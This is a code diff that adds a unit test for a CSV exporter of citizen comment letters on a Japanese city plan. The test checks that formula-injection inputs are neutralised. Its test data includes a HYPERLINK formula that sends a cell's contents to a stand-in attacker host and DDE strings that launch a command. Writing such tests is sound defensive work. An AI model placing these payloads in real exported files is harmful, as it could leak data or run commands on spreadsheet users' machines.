@@ -40,6 +40,15 @@ describe('letterCsv', () => {
     expect(csv).toContain(',2,北上市情報基本計画2026（案） 第7章(2),https://example.jp/plans/kitakami-2026/chapters/c7/#measures,"「高齢者向け」と書いてほしい, です。\n2行目。"\r\n');
     expect(csv.split('\r\n')).toHaveLength(4);
   });
+
+  it('never writes a cell that a spreadsheet runs as a formula, whoever typed it', () => {
+    const hostile: LetterDraft = {
+      name: '=HYPERLINK("https://evil.example/?"&C2,"詳細")', address: '@SUM(1+1)*cmd|\' /C calc\'!A0', contact: '+81-197-00-0000',
+      opinions: [{ id: 'a', passage: '=1+1', url: '', opinion: '-2+3+cmd|\' /C calc\'!A0' }],
+    };
+    const [, row] = letterCsv(title, hostile, 'https://example.jp').split('\r\n');
+    expect(row).toBe(`${title}に対する意見,"'=HYPERLINK(""https://evil.example/?""&C2,""詳細"")",'@SUM(1+1)*cmd|' /C calc'!A0,'+81-197-00-0000,1,'=1+1,,'-2+3+cmd|' /C calc'!A0`);
+  });
 });
 
 describe('checkLetter', () => {
